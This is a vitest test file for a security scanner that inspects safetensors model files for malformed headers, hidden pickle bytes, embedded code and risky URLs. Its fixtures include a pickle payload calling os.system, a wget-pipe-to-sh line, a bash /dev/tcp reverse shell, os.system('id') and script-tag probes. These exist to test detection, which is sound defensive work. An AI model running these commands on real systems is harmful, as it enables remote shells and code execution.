import { closeSync, mkdtempSync, openSync, rmSync, writeSync, ftruncateSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scan, scanBytes } from '../../../src/scan/engine.js';
import { safetensorsScanner, DTYPE_BITS } from '../../../src/scan/formats/safetensors/safetensors-scanner.js';
import {
  JsonNumber,
  JsonObject,
  parseStrictJson,
} from '../../../src/scan/formats/safetensors/strict-json.js';
import {
  decodeBase64,
  findCode,
  findUrls,
  unsafeName,
} from '../../../src/scan/formats/safetensors/text-checks.js';

type Tensors = Record<string, { dtype: string; shape: number[]; data_offsets: [number, number] }>;

/** A safetensors file from a literal header (text or object) and a buffer size. */
function file(
  header: string | object,
  bufferBytes: number,
  opts: { pad?: string; length?: bigint } = {},
): Uint8Array {
  let h = Buffer.from(typeof header === 'string' ? header : JSON.stringify(header));
  const pad = (8 - (h.length % 8)) % 8;
  h = Buffer.concat([h, Buffer.from((opts.pad ?? ' ').repeat(pad))]);
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(opts.length ?? BigInt(h.length));
  return new Uint8Array(Buffer.concat([len, h, Buffer.alloc(bufferBytes)]));
}

function layout(spec: [string, string, number[]][]): { header: Tensors; size: number } {
  const header: Tensors = {};
  let off = 0;
  for (const [name, dtype, shape] of spec) {
    const n = (shape.reduce((a, b) => a * b, 1) * DTYPE_BITS.get(dtype)!) / 8;
    header[name] = { dtype, shape, data_offsets: [off, off + n] };
    off += n;
  }
  return { header, size: off };
}

async function run(data: Uint8Array) {
  const r = await scanBytes(data, 'x.safetensors');
  return { ...r, rules: r.findings.map((f) => f.ruleId) };
}

describe('strict JSON', () => {
  it('keeps duplicate keys and integer literals', () => {
    const v = parseStrictJson('{"a": 1, "a": 2.0, "b": [18446744073709551615, -1, 1e3]}') as JsonObject;
    expect(v.duplicates).toEqual(['a']);
    expect(v.members.map(([k]) => k)).toEqual(['a', 'a', 'b']);
    const b = v.get('b') as JsonNumber[];
    expect(b[0].isUnsignedInt && b[0].big()).toBe(18446744073709551615n);
    expect(b[1].isUnsignedInt).toBe(false);
    expect(b[2].isUnsignedInt).toBe(false);
    expect((v.get('a') as JsonNumber).raw).toBe('1');
  });
  it('rejects what serde_json rejects', () => {
    for (const bad of [
      '{"a":1,}',
      '{"a":"\\ud800"}',
      '{"a":"x\ny"}',
      '{"a":01}',
      '{"a":1} x',
      "{'a':1}",
      '{"a":.5}',
      '[1,]',
    ])
      expect(() => parseStrictJson(bad), bad).toThrow();
    expect(parseStrictJson('{"a":"\\ud83d\\ude00"}  \0\0')).toBeInstanceOf(JsonObject);
  });
  it('bounds nesting', () => {
    expect(() => parseStrictJson('['.repeat(100) + ']'.repeat(100))).toThrow(/nesting/);
  });
});

describe('safetensors sniffing', () => {
  const sniff = (b: Uint8Array, size = b.length) =>
    safetensorsScanner.sniff({ head: b.subarray(0, 4096), size, name: 'x', tail: b } as never);
  it('claims plausible headers only', () => {
    const { header, size } = layout([['w', 'F32', [2]]]);
    expect(sniff(file(header, size))).toBeGreaterThanOrEqual(80);
    expect(sniff(file(header, size, { length: 5000n }))).toBe(40); // past EOF: still reported
    expect(sniff(file(header, size, { length: 1n << 50n }))).toBe(0);
    expect(sniff(new Uint8Array(Buffer.from('\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94.')))).toBe(0);
    expect(sniff(new Uint8Array(Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00{"a":1}')))).toBe(0);
    expect(sniff(new Uint8Array(Buffer.from('{"a": 1, "b": [1, 2, 3]}')))).toBe(0);
  });
});

describe('safetensors header checks', () => {
  it('accepts a conforming file with every dtype, scalars, empty and sub-byte tensors', async () => {
    const { header, size } = layout([
      ...[...DTYPE_BITS.keys()].map((d) => [`t.${d}`, d, [8]] as [string, string, number[]]),
      ['scalar', 'F64', []],
      ['empty', 'F32', [0, 3]],
      ['f6', 'F6_E3M2', [4]],
    ]);
    const r = await run(file({ __metadata__: { format: 'pt' }, ...header }, size));
    expect(r.verdict, JSON.stringify(r.findings)).toBe('clean');
    expect(r.formats).toEqual(['safetensors']);
  });

  it.each([
    [
      'F4 with an odd element count',
      { a: { dtype: 'F4', shape: [3], data_offsets: [0, 2] } },
      2,
      'BW-ST-007',
    ],
    [
      'shape product overflow',
      { a: { dtype: 'F64', shape: [4294967296, 4294967296], data_offsets: [0, 8] } },
      8,
      'BW-ST-007',
    ],
    [
      'offsets above 2^53',
      { a: { dtype: 'U8', shape: [8], data_offsets: [9007199254740993, 9007199254741001] } },
      8,
      'BW-ST-008',
    ],
    ['float shape', '{"a":{"dtype":"U8","shape":[2.0],"data_offsets":[0,2]}}', 2, 'BW-ST-005'],
    ['missing data_offsets', { a: { dtype: 'U8', shape: [2] } }, 2, 'BW-ST-005'],
    ['three offsets', { a: { dtype: 'U8', shape: [2], data_offsets: [0, 1, 2] } }, 2, 'BW-ST-005'],
    ['tensor entry not an object', { a: [1, 2] }, 0, 'BW-ST-005'],
    [
      'metadata not an object',
      { __metadata__: 'pt', a: { dtype: 'U8', shape: [1], data_offsets: [0, 1] } },
      1,
      'BW-ST-005',
    ],
    [
      'empty tensor inside another',
      {
        a: { dtype: 'U8', shape: [8], data_offsets: [0, 8] },
        e: { dtype: 'U8', shape: [0], data_offsets: [4, 4] },
      },
      8,
      'BW-ST-009',
    ],
    [
      'buffer longer than the tensors',
      { a: { dtype: 'U8', shape: [8], data_offsets: [0, 8] } },
      12,
      'BW-ST-010',
    ],
    ['lowercase dtype', { a: { dtype: 'f32', shape: [1], data_offsets: [0, 4] } }, 4, 'BW-ST-006'],
  ])('%s', async (_name, header, size, rule) => {
    const r = await run(file(header, size));
    expect(r.rules, JSON.stringify(r.findings)).toContain(rule);
    expect(r.verdict).toBe('suspicious');
  });

  it('reports duplicate fields inside a tensor entry', async () => {
    const r = await run(file('{"a":{"dtype":"U8","dtype":"F32","shape":[1],"data_offsets":[0,1]}}', 1));
    expect(r.rules).toContain('BW-ST-004');
  });

  it('caps repeated findings and summarises the rest', async () => {
    const header: Tensors = {};
    for (let i = 0; i < 60; i++) header[`t${i}`] = { dtype: 'XX', shape: [1], data_offsets: [i, i + 1] };
    const r = await run(file(header, 60));
    const st6 = r.findings.filter((f) => f.ruleId === 'BW-ST-006');
    expect(st6.length).toBe(21);
    expect(st6[20].message).toMatch(/40 more/);
  });

  it('treats unreadable headers as inconclusive', async () => {
    expect((await run(file('{"a":1', 0))).rules).toContain('BW-ST-003');
    expect((await run(file('["a"]', 0))).formats).toEqual([]); // not a JSON object: not sniffed as safetensors
    const big = file({}, 0, { length: 100_000_001n });
    const r = await run(big);
    expect(r.rules).toEqual(['BW-ST-002']);
    expect(r.verdict).toBe('inconclusive');
  });

  it('analyses hidden bytes between tensors as content', async () => {
    // pickle.dumps of an object whose __reduce__ returns (os.system, ('echo bulwark-test',)), protocol 4
    const fixed = Buffer.from(
      '8004952c000000000000008c05706f736978948c0673797374656d9493948c116563686f2062756c7761726b2d7465737494859452942e',
      'hex',
    );
    const header = {
      a: { dtype: 'U8', shape: [8], data_offsets: [0, 8] },
      b: { dtype: 'U8', shape: [8], data_offsets: [8 + fixed.length, 16 + fixed.length] },
    };
    const base = file(header, 0);
    const data = Buffer.concat([base, Buffer.alloc(8), fixed, Buffer.alloc(8)]);
    const r = await run(new Uint8Array(data));
    expect(r.rules).toContain('BW-ST-010');
    expect(r.rules).toContain('BW-PKL-001');
    expect(r.verdict).toBe('malicious');
  });

  it('never throws and never calls a malformed header clean (fuzz)', async () => {
    const { header, size } = layout([
      ['a', 'F32', [2, 2]],
      ['b', 'I8', [3]],
    ]);
    const good = file({ __metadata__: { format: 'pt' }, ...header }, size);
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: good.length - 1 }),
        fc.integer({ min: 0, max: 255 }),
        async (at, byte) => {
          const bad = good.slice();
          bad[at] = byte;
          const r = await scanBytes(bad, 'x.safetensors');
          if (r.formats.includes('safetensors') && r.verdict === 'clean') {
            // A mutation that keeps the file valid (inside a value) is fine; it must still parse as JSON.
            const n = Number(Buffer.from(bad).readBigUInt64LE(0));
            expect(() => JSON.parse(Buffer.from(bad.subarray(8, 8 + n)).toString('utf8'))).not.toThrow();
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('metadata and name checks', () => {
  it('flags code, shell, HTML and risky URLs but not ordinary text', () => {
    expect(findCode("__import__('os').system('id')")?.kind).toBe('python');
    expect(findCode('import subprocess; subprocess.run(["id"])')?.kind).toBe('python');
    expect(findCode('wget -qO- http://x.invalid/a | sh')?.kind).toBe('shell');
    expect(findCode('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')?.kind).toBe('shell');
    expect(findCode('<script>alert(1)</script>')?.kind).toBe('html');
    for (const ok of [
      'pt',
      'Trained with torch.compile(model) on 8 GPUs',
      'evaluation split: validation',
      '{"lr": 0.001}',
      'sks person, smiling',
    ])
      expect(findCode(ok), ok).toBeUndefined();
    expect(findUrls('https://evil.example.com/x')[0].risk).toMatch(/well-known/);
    expect(findUrls('see https://huggingface.co/org/model and http://10.0.0.1/x')).toEqual([
      { url: 'https://huggingface.co/org/model', risk: undefined },
      { url: 'http://10.0.0.1/x', risk: 'raw IP address' },
    ]);
    expect(findUrls('https://example.com/install.sh')[0].risk).toMatch(/script/);
    expect(findUrls('data:image/png;base64,AAAA')).toEqual([]);
  });
  it('finds unsafe names', () => {
    expect(unsafeName('../x')).toBe('traversal');
    expect(unsafeName('a/../../b')).toBe('traversal');
    expect(unsafeName('/etc/passwd')).toBe('absolute path');
    expect(unsafeName('C:\\x')).toBe('absolute path');
    expect(unsafeName('a\u0000b')).toBe('control characters');
    expect(unsafeName('model.layers.0.weight')).toBeUndefined();
    expect(unsafeName('bert/encoder/layer_0/kernel:0')).toBeUndefined();
    expect(unsafeName('/model/conv1/Conv')).toBeUndefined();
  });
  it('decodes base64 only when it looks like base64', () => {
    expect(decodeBase64('model.layers.0.self_attn.q_proj', 1e6)).toBeUndefined();
    expect(
      decodeBase64(Buffer.from('\x80\x04hello world, a payload', 'latin1').toString('base64'), 1e6)?.[0],
    ).toBe(0x80);
  });
});

describe('large files', () => {
  it('reads only the header of a 2 GiB sparse file', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'bw-st-'));
    try {
      const header = { w: { dtype: 'BF16', shape: [32768, 32768], data_offsets: [0, 2 * 32768 * 32768] } };
      const h = file(header, 0);
      const p = path.join(dir, 'big.safetensors');
      const fd = openSync(p, 'w');
      writeSync(fd, h);
      ftruncateSync(fd, h.length + 2 * 32768 * 32768);
      closeSync(fd);
      const r = (await scan([p], { workers: false })).files[0];
      expect(r.verdict).toBe('clean');
      expect(r.bytesRead).toBeLessThan(256 * 1024);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
